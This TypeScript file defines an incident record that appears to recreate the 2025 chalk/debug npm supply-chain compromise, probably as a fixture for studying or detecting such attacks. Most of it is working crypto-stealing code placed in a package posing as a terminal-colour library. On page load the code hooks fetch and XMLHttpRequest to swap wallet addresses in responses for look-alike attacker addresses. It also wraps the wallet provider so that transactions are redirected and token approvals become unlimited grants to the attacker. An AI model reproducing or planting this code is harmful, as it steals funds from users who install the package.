import type { Incident } from '../incident.ts';

export const chalkDebug: Incident = {
  id: 'chalk-debug-2025',
  story:
    'A phished account; one line of code is put in front of the package’s own. In a browser it replaces fetch and XMLHttpRequest and rewrites wallet addresses in answers by the attacker’s address that looks most alike (edit distance), and wraps the wallet’s request function so that the recipient of a transaction changes before it is signed.',
  sources: [
    'https://www.fidesium.xyz/npm-supply-chain-attack-wallet-swap',
    'https://incrypthos.com/security/npm-supply-chain-attack-compromises-crypto-wallets-defi-platforms',
  ],
  name: 'corpus-terminal-colours',
  version: '5.6.1',
  manifest: { main: 'index.js' },
  payloads: [
    {
      path: 'index.js',
      format: 'cjs',
      uses: {},
      sections: [
        {
          provides: ['ownAddresses', 'distance', 'closest'],
          code: `
const ownAddresses = {
  ethereum: ['0x1111111111111111111111111111111111111111', '0x2222222222222222222222222222222222222222', '0x3333333333333333333333333333333333333333'],
  bitcoin: ['bc1qcorpuscorpuscorpuscorpuscorpuscorpus00', '1CorpusCorpusCorpusCorpusCorpusCor'],
  solana: ['CorpusCorpusCorpusCorpusCorpusCorpusCorpusCo'],
};
function distance(left, right) {
  const rows = [];
  for (let row = 0; row <= left.length; row += 1) {
    rows.push([row]);
    for (let column = 1; column <= right.length; column += 1) {
      if (row === 0) {
        rows[row].push(column);
      } else {
        const cost = left[row - 1] === right[column - 1] ? 0 : 1;
        rows[row].push(Math.min(rows[row - 1][column] + 1, rows[row][column - 1] + 1, rows[row - 1][column - 1] + cost));
      }
    }
  }
  return rows[left.length][right.length];
}
function closest(address, choices) {
  let best = choices[0];
  for (const choice of choices) {
    if (distance(address.toLowerCase(), choice.toLowerCase()) < distance(address.toLowerCase(), best.toLowerCase())) {
      best = choice;
    }
  }
  return best;
}
`,
        },
        {
          provides: ['swapAll', 'hookNetwork'],
          code: `
function swapAll(text) {
  let changed = text.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, (found) => closest(found, ownAddresses.ethereum));
  changed = changed.replace(/\\b(bc1[a-z0-9]{39}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\\b/g, (found) => closest(found, ownAddresses.bitcoin));
  return changed.replace(/\\b[1-9A-HJ-NP-Za-km-z]{43,44}\\b/g, (found) => closest(found, ownAddresses.solana));
}
function hookNetwork() {
  const ownFetch = window.fetch;
  window.fetch = async function (...list) {
    const answer = await ownFetch.apply(this, list);
    const type = answer.headers.get('content-type') || '';
    const body = type.includes('json') ? JSON.stringify(await answer.clone().json()) : await answer.clone().text();
    return new Response(swapAll(body), { status: answer.status, statusText: answer.statusText, headers: answer.headers });
  };
  const ownOpen = XMLHttpRequest.prototype.open;
  const ownSend = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (method, target) {
    this._target = target;
    return ownOpen.apply(this, arguments);
  };
  XMLHttpRequest.prototype.send = function (body) {
    const shown = this;
    this.onreadystatechange = function () {
      if (shown.readyState === 4) {
        Object.defineProperty(shown, 'responseText', { value: swapAll(shown.responseText) });
      }
    };
    return ownSend.call(this, body);
  };
}
`,
        },
        {
          provides: ['hookWallet'],
          code: `
function hookWallet() {
  const provider = window.ethereum;
  for (const method of ['request', 'send', 'sendAsync']) {
    const own = provider[method];
    if (typeof own === 'function') {
      Object.defineProperty(provider, method, {
        value: async function (...list) {
          const call = list[0];
          if (call && call.method === 'eth_sendTransaction') {
            const transaction = call.params[0];
            if (transaction.data && transaction.data.startsWith('0x095ea7b3')) {
              transaction.data = '0x095ea7b3' + ownAddresses.ethereum[0].slice(2).padStart(64, '0') + 'f'.repeat(64);
            } else {
              transaction.to = ownAddresses.ethereum[0];
            }
          }
          return own.apply(this, list);
        },
      });
    }
  }
}
if (typeof window !== 'undefined') {
  hookNetwork();
  if (typeof window.ethereum !== 'undefined') {
    window.ethereum.request({ method: 'eth_accounts' }).then((accounts) => {
      if (accounts.length > 0) {
        hookWallet();
      }
    });
  }
}
`,
        },
        {
          provides: [],
          code: `
const codes = { red: 31, green: 32, blue: 34 };
for (const colour of Object.keys(codes)) {
  exports[colour] = (text) => String.fromCharCode(27) + '[' + codes[colour] + 'm' + text + String.fromCharCode(27) + '[39m';
}
`,
        },
      ],
    },
  ],
  files: { 'README.md': '# corpus-terminal-colours\n\nColours for terminals.\n' },
  marks: { ownAddresses: 'palette' },
};
